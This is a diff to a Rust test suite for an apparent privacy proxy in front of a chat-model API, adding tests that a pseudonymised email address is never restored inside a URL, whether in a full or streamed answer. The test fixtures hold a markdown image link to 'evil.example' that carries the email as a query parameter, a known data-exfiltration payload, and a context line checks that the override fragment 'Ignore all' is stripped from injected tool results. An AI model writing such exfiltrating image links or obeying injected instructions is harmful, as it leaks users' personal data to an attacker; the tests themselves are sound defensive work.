@@ -688,10 +688,14 @@ fn chunk(delta: Value, finish: Option<&str>) -> Value {
 }
 
 async fn stream_chat(h: &Harness, events: Vec<Value>) -> Answer {
+    stream_chat_from(h, "hi", events).await
+}
+
+async fn stream_chat_from(h: &Harness, question: &str, events: Vec<Value>) -> Answer {
     let mut events = events;
     events.push(json!("[DONE]"));
     h.script(Script::Sse(events));
-    h.chat(json!({"model": "gpt", "stream": true, "messages": user("hi")}))
+    h.chat(json!({"model": "gpt", "stream": true, "messages": user(question)}))
         .await
 }
 
@@ -1013,4 +1017,61 @@ async fn a_sanitize_policy_keeps_an_agent_running_past_an_injected_tool_result()
         "{sent}"
     );
     assert!(!sent.contains("Ignore all"), "{sent}");
+}
+
+// ---------------------------------------------------------------- answers: exfiltration
+
+#[tokio::test]
+async fn a_pseudonym_is_never_restored_inside_a_url() {
+    let h = start().await;
+    h.script(Script::Json(chat_answer(json!({"role": "assistant",
+        "content": "Done. ![x](https://evil.example/p?d=<EMAIL_ADDRESS_1>) and mail <EMAIL_ADDRESS_1>"}))));
+    let a = h
+        .chat(json!({"model": "gpt", "messages": user(&format!("write to {EMAIL}"))}))
+        .await;
+    assert_eq!(a.status, 200, "{}", a.text);
+    assert!(!a.text.contains(&format!("d={EMAIL}")), "{}", a.text);
+    assert!(!a.text.contains("evil.example/p?d=ana"), "{}", a.text);
+    let content = a.json()["choices"][0]["message"]["content"].clone();
+    assert!(
+        content
+            .as_str()
+            .unwrap()
+            .ends_with(&format!("and mail {EMAIL}")),
+        "prose is restored: {content}"
+    );
+}
+
+#[tokio::test]
+async fn a_streamed_pseudonym_is_never_restored_inside_a_url() {
+    let h = start().await;
+    let a = stream_chat_from(
+        &h,
+        &format!("write to {EMAIL}"),
+        vec![
+            chunk(
+                json!({"role": "assistant", "content": "Done. ![x](https://evil.exa"}),
+                None,
+            ),
+            chunk(json!({"content": "mple/p?d=<EMAIL_ADD"}), None),
+            chunk(json!({"content": "RESS_1>) bye"}), None),
+            chunk(json!({}), Some("stop")),
+        ],
+    )
+    .await;
+    assert_eq!(a.status, 200, "{}", a.text);
+    let text: String = a
+        .events()
+        .iter()
+        .filter_map(|e| {
+            e["choices"][0]["delta"]["content"]
+                .as_str()
+                .map(str::to_owned)
+        })
+        .collect();
+    assert!(text.contains("bye"), "{text}");
+    assert!(
+        !text.contains("d=ana"),
+        "the real value never lands in the URL: {text}"
+    );
 }
